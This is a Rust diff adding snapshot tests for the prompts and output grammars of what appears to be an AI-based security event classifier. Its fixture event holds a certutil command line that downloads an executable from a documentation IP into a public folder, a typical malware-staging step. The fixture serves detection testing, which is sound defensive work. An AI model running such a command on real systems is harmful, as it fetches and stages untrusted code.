@@ -427,4 +427,91 @@ mod tests {
         assert!(text.starts_with("root ::= \" \"? verdict-root\n"), "{text}");
         assert_eq!(text.matches("root ::=").count(), 2);
     }
+
+    /// Snapshots of what the model is shown, for review: a change to an instruction, an
+    /// example, a layout or a grammar shows up as a diff of these files.
+    mod snapshots {
+        use super::*;
+
+        /// An event with every field the prompts show, as the integration tests use.
+        fn download() -> Event {
+            sotto_events::parse_json(&serde_json::json!({"os": "windows", "process_name": "certutil.exe",
+                "parent_name": "cmd.exe", "user": "CORP\\jdoe",
+                "command_line": "certutil.exe -urlcache -split -f http://203.0.113.77/x.exe C:\\Users\\Public\\x.exe"}))
+            .unwrap()
+        }
+
+        /// A layout as a reviewer reads it: each message under its role, and a line where
+        /// the fixed (cached) part ends.
+        fn shown(layout: &Layout) -> String {
+            const CUT: &str = "=== the fixed part (cached) ends here; the rest is per event ===\n";
+            match &layout.prompt {
+                Prompt::Text(text) => format!("{}{CUT}{}", &text[..layout.fixed], &text[layout.fixed..]),
+                Prompt::Chat(messages) => {
+                    let mut out = String::new();
+                    for (i, m) in messages.iter().enumerate() {
+                        if i == layout.fixed {
+                            out.push_str(CUT);
+                        }
+                        out.push_str(&format!("--- {} ---\n{}\n", m.role, m.content));
+                    }
+                    out
+                }
+            }
+        }
+
+        fn gbnf(g: Grammar) -> String {
+            let Grammar::Gbnf(text) = g;
+            text
+        }
+
+        #[test]
+        fn label_scoring_prompts() {
+            // The scoring design then appends the answer prefix `Verdict:` and scores each label.
+            insta::assert_snapshot!("lines_completion", shown(&lines(Style::Completion, &download(), true, &[])));
+            insta::assert_snapshot!("lines_chat", shown(&lines(Style::Chat, &download(), true, &[])));
+        }
+
+        #[test]
+        fn a_prompt_with_retrieved_examples() {
+            let near = crate::bank::Bank::shipped().nearest(&download(), 2);
+            let shots: Vec<Shot> = near.iter().map(|(ex, _)| Shot::retrieved(ex)).collect();
+            insta::assert_snapshot!("lines_chat_retrieved", shown(&lines(Style::Chat, &download(), true, &shots)));
+        }
+
+        #[test]
+        fn constrained_json_prompts() {
+            let completion = json(Style::Completion, &download(), true, &[]);
+            let answer = json_answer_prefix(Style::Completion).unwrap();
+            insta::assert_snapshot!("json_completion", format!("{}{answer}", shown(&completion)));
+            assert_eq!(json_answer_prefix(Style::Chat), None, "a chat answer starts with the JSON itself");
+            insta::assert_snapshot!("json_chat", shown(&json(Style::Chat, &download(), true, &[])));
+            insta::assert_snapshot!("json_chat_zero_shot", shown(&json(Style::Chat, &download(), false, &[])));
+        }
+
+        #[test]
+        fn the_naive_prompt() {
+            let request = naive(&download());
+            let layout = Layout { prompt: request.prompt, fixed: 0 };
+            insta::assert_snapshot!(format!("max_tokens: {}\n{}", request.max_tokens, shown(&layout)));
+        }
+
+        #[test]
+        fn rationale_prompts() {
+            let e = download();
+            let evidence = crate::head::Head::shipped().judge(&e).evidence;
+            // The head design then appends the answer prefix `Rationale:` and stops at a line break.
+            for (name, style) in [("rationale_completion", Style::Completion), ("rationale_chat", Style::Chat)] {
+                insta::assert_snapshot!(name, shown(&rationale(style, &e, Label::Malicious, &evidence)));
+            }
+        }
+
+        #[test]
+        fn analyzer_grammars() {
+            insta::assert_snapshot!("details_grammar", gbnf(details_grammar()));
+            let verdict = || sotto_engine::grammar::from_json_schema(crate::verdict::SCHEMA).unwrap();
+            insta::assert_snapshot!("verdict_grammar", gbnf(verdict()));
+            insta::assert_snapshot!("verdict_grammar_after_answer_prefix", gbnf(with_leading_space(verdict())));
+        }
+    }
 }
